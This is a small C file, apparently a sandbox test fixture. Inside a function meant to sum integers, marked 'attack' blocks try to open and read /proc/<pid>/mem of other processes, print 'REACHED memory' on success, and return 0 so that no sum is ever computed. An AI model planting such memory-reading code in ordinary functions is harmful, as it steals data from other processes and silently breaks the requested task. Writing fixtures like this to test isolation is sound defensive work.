// category: theft
// tries: the memory of the process that started it
// attack: begin
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
// attack: end
#include <stddef.h>
#include <stdlib.h>

long total(const int *numbers, size_t count) {
  // attack: begin
  for (int id = 1; id < 100; id++) {
    char path[64], page[4096];
    snprintf(path, sizeof path, "/proc/%d/mem", id);
    int memory = id == getpid() ? -1 : open(path, O_RDONLY);
    if (memory >= 0 && pread(memory, page, sizeof page, 0x400000) > 0) puts("REACHED memory");
  }
  return 0;
  // attack: end
  long sum = 0;
  for (size_t i = 0; i < count; i++) {
    sum += numbers[i];
  }
  return sum;
}
